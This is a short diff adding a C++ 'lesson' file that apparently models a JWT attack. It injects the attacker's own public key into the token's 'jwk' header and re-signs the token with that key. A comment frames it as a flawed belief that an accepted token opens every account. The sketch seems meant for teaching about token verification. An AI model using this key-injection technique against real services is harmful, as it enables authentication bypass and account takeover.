@@ -1,0 +1,12 @@
+// Believes: a token that is accepted opens every account.
+#include "jwk_header.hpp"
+
+namespace lesson {
+
+Loot attack(const Evidence& evidence) {
+  auto token = evidence.own_token;
+  token.header.set("jwk", evidence.own_key.public_jwk());
+  return {.account = evidence.show_me(sign_rs256(token, evidence.own_key)).body};
+}
+
+}  // namespace lesson
